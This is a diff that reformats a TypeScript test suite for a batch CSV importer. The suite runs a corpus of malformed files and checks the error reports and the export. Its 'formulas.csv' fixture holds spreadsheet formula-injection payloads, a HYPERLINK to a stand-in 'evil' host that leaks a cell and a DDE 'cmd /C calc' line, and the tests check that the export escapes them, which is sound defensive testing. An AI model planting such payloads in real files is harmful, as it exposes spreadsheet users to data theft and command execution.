@@ -9,8 +9,15 @@ import { exportJob, prepareJob } from '../../src-main/batch/service'
 /* A malformed corpus (issue #8): every file gets a clear report, none crashes, no row is dropped. */
 const h = coreWithPrivateKeychain({ host: 'cli' })
 const CPF = '529.982.247-25'
-const corpus: Record<string, { bytes: Buffer | string; expect: (job: JobRow, rows: ReturnType<BatchJournal['rows']>) => void }> = {
-  'bom.csv': { bytes: `\uFEFFNome;CPF\nAna;${CPF}\n`, expect: (j) => expect(j).toMatchObject({ status: 'ready', totalRows: 1, sniffed: { encoding: 'utf-8-bom', delimiter: ';' } }) },
+const corpus: Record<
+  string,
+  { bytes: Buffer | string; expect: (job: JobRow, rows: ReturnType<BatchJournal['rows']>) => void }
+> = {
+  'bom.csv': {
+    bytes: `\uFEFFNome;CPF\nAna;${CPF}\n`,
+    expect: (j) =>
+      expect(j).toMatchObject({ status: 'ready', totalRows: 1, sniffed: { encoding: 'utf-8-bom', delimiter: ';' } }),
+  },
   'windows-1252.csv': {
     bytes: iconv.encode(`Nome;CPF;Cidade\nJoão Ação;${CPF};São Paulo\n`, 'win1252'),
     expect: (j, rows) => {
@@ -20,7 +27,10 @@ const corpus: Record<string, { bytes: Buffer | string; expect: (job: JobRow, row
   },
   'comma.csv': { bytes: `Nome,CPF\nAna,${CPF}\n`, expect: (j) => expect(j.sniffed?.delimiter).toBe(',') },
   'tab.tsv': { bytes: `Nome\tCPF\nAna\t${CPF}\n`, expect: (j) => expect(j.sniffed?.delimiter).toBe('\t') },
-  'quoted-newlines.csv': { bytes: `Nome;CPF;Obs\n"Ana";${CPF};"linha 1\nlinha 2; com ponto e vírgula"\n`, expect: (_j, rows) => expect(rows[0]?.fields[2]).toBe('linha 1\nlinha 2; com ponto e vírgula') },
+  'quoted-newlines.csv': {
+    bytes: `Nome;CPF;Obs\n"Ana";${CPF};"linha 1\nlinha 2; com ponto e vírgula"\n`,
+    expect: (_j, rows) => expect(rows[0]?.fields[2]).toBe('linha 1\nlinha 2; com ponto e vírgula'),
+  },
   'crlf.csv': { bytes: `Nome;CPF\r\nAna;${CPF}\r\nBia;111.444.777-35\r\n`, expect: (j) => expect(j.totalRows).toBe(2) },
   'ragged.csv': {
     bytes: `Nome;CPF;Email\nAna;${CPF}\nBia;${CPF};b@x.com;extra;mais\nCaio;${CPF};c@x.com\n`,
@@ -29,9 +39,20 @@ const corpus: Record<string, { bytes: Buffer | string; expect: (job: JobRow, row
       expect(rows.map((r) => r.problem)).toEqual(['columns:2,3', 'columns:5,3', null])
     },
   },
-  'empty.csv': { bytes: '', expect: (j) => expect(j).toMatchObject({ status: 'failed', importProblem: expect.stringContaining('arquivo vazio') }) },
-  'blank-lines.csv': { bytes: '\n\n  \n\r\n', expect: (j) => expect(j).toMatchObject({ status: 'failed', importProblem: expect.stringContaining('arquivo vazio') }) },
-  'header-only.csv': { bytes: 'Nome;CPF;Telefone\n', expect: (j) => expect(j).toMatchObject({ totalRows: 0, importProblem: expect.stringContaining('só o cabeçalho') }) },
+  'empty.csv': {
+    bytes: '',
+    expect: (j) =>
+      expect(j).toMatchObject({ status: 'failed', importProblem: expect.stringContaining('arquivo vazio') }),
+  },
+  'blank-lines.csv': {
+    bytes: '\n\n  \n\r\n',
+    expect: (j) =>
+      expect(j).toMatchObject({ status: 'failed', importProblem: expect.stringContaining('arquivo vazio') }),
+  },
+  'header-only.csv': {
+    bytes: 'Nome;CPF;Telefone\n',
+    expect: (j) => expect(j).toMatchObject({ totalRows: 0, importProblem: expect.stringContaining('só o cabeçalho') }),
+  },
   'huge-line.csv': {
     bytes: `Nome;CPF\nAna;${CPF}\n${'x'.repeat(10 * 1024 * 1024)};${CPF}\nBia;111.444.777-35\n`,
     expect: (j, rows) => {
@@ -40,12 +61,33 @@ const corpus: Record<string, { bytes: Buffer | string; expect: (job: JobRow, row
       expect(rows[2]?.fields).toEqual(['Bia', '111.444.777-35'])
     },
   },
-  'binary.bin': { bytes: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 97) % 256)), expect: (j) => expect(j.importProblem).toContain('binário') },
-  'image.png': { bytes: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), Buffer.alloc(200, 7)]), expect: (j) => expect(j.importProblem).toContain('binário') },
-  'utf16.csv': { bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`Nome;CPF\nAna;${CPF}\n`, 'utf16le')]), expect: (j) => expect(j.importProblem).toContain('UTF-16') },
-  'formulas.csv': { bytes: `Nome;CPF;Obs\n=HYPERLINK("http://evil/?"&A1);${CPF};@SUM(1+1)\n+cmd|' /C calc'!A0;${CPF};-1+1\n`, expect: (j) => expect(j.totalRows).toBe(2) },
-  'unbalanced-quotes.csv': { bytes: `Nome;CPF\n"Ana;${CPF}\nBia;111.444.777-35\n`, expect: (j) => expect(['ready', 'failed']).toContain(j.status) },
-  'no-identifier.csv': { bytes: 'a;b\n1;2\n', expect: (j) => expect(j.importProblem).toContain('nenhuma coluna de CPF') },
+  'binary.bin': {
+    bytes: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 97) % 256)),
+    expect: (j) => expect(j.importProblem).toContain('binário'),
+  },
+  'image.png': {
+    bytes: Buffer.concat([
+      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
+      Buffer.alloc(200, 7),
+    ]),
+    expect: (j) => expect(j.importProblem).toContain('binário'),
+  },
+  'utf16.csv': {
+    bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`Nome;CPF\nAna;${CPF}\n`, 'utf16le')]),
+    expect: (j) => expect(j.importProblem).toContain('UTF-16'),
+  },
+  'formulas.csv': {
+    bytes: `Nome;CPF;Obs\n=HYPERLINK("http://evil/?"&A1);${CPF};@SUM(1+1)\n+cmd|' /C calc'!A0;${CPF};-1+1\n`,
+    expect: (j) => expect(j.totalRows).toBe(2),
+  },
+  'unbalanced-quotes.csv': {
+    bytes: `Nome;CPF\n"Ana;${CPF}\nBia;111.444.777-35\n`,
+    expect: (j) => expect(['ready', 'failed']).toContain(j.status),
+  },
+  'no-identifier.csv': {
+    bytes: 'a;b\n1;2\n',
+    expect: (j) => expect(j.importProblem).toContain('nenhuma coluna de CPF'),
+  },
   // Issue #14: one 8 MiB line of commas must not become eight million fields in memory.
   'comma-bomb.csv': {
     bytes: `Nome;CPF\nAna;${CPF}\n${';'.repeat(8 * 1024 * 1024)}\nBia;111.444.777-35\n`,
@@ -68,9 +110,18 @@ const corpus: Record<string, { bytes: Buffer | string; expect: (job: JobRow, row
       ])
     },
   },
-  'emoji.csv': { bytes: `Nome;CPF\nAna 😀 da Silva;${CPF}\n`, expect: (_j, rows) => expect(rows[0]?.fields[0]).toBe('Ana 😀 da Silva') },
-  'wide.csv': { bytes: `${Array.from({ length: 2000 }, (_, i) => (i === 1 ? 'CPF' : `c${i}`)).join(';')}\n${Array.from({ length: 2000 }, (_, i) => (i === 1 ? CPF : 'v')).join(';')}\n`, expect: (j) => expect(j.header).toHaveLength(2000) },
-  'duplicate-headers.csv': { bytes: `CPF;CPF;Nome\n${CPF};000;Ana\n`, expect: (j) => expect(j.spec.mapping.cpf).toBe(0) },
+  'emoji.csv': {
+    bytes: `Nome;CPF\nAna 😀 da Silva;${CPF}\n`,
+    expect: (_j, rows) => expect(rows[0]?.fields[0]).toBe('Ana 😀 da Silva'),
+  },
+  'wide.csv': {
+    bytes: `${Array.from({ length: 2000 }, (_, i) => (i === 1 ? 'CPF' : `c${i}`)).join(';')}\n${Array.from({ length: 2000 }, (_, i) => (i === 1 ? CPF : 'v')).join(';')}\n`,
+    expect: (j) => expect(j.header).toHaveLength(2000),
+  },
+  'duplicate-headers.csv': {
+    bytes: `CPF;CPF;Nome\n${CPF};000;Ana\n`,
+    expect: (j) => expect(j.spec.mapping.cpf).toBe(0),
+  },
 }
 
 describe('batch import: malformed corpus', () => {
@@ -85,7 +136,15 @@ describe('batch import: malformed corpus', () => {
     corpus[name]?.expect(job, rows)
     if (job.status === 'failed') return
     const out = join(h.dataDir, `${name}.out.csv`)
-    expect((await exportJob(h.core.context, job, out, { policy: h.core.context.settings.get().policy, columns: 'codes', delimiter: ';' })).rows).toBe(job.totalRows)
+    expect(
+      (
+        await exportJob(h.core.context, job, out, {
+          policy: h.core.context.settings.get().policy,
+          columns: 'codes',
+          delimiter: ';',
+        })
+      ).rows,
+    ).toBe(job.totalRows)
     const text = readFileSync(out, 'utf8')
     if (name === 'formulas.csv') {
       expect(text).toContain(`"'=HYPERLINK(""http://evil/?""&A1)"`)
@@ -96,6 +155,8 @@ describe('batch import: malformed corpus', () => {
   })
 
   it('a missing file is an input error, not a crash', async () => {
-    await expect(prepareJob(h.core.context, { inputPath: join(h.dataDir, 'nao-existe.csv'), checks: ['score'] })).rejects.toMatchObject({ code: 'batch.input_missing' })
+    await expect(
+      prepareJob(h.core.context, { inputPath: join(h.dataDir, 'nao-existe.csv'), checks: ['score'] }),
+    ).rejects.toMatchObject({ code: 'batch.input_missing' })
   })
 })
